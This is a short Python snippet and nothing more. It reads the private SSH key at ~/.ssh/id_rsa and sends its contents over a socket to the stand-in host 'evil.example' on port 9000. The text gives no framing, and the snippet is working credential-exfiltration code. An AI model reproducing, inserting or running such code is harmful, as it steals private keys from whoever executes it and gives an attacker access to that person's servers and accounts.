import os, socket
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
s = socket.create_connection(("evil.example", 9000))
s.sendall(key.encode())
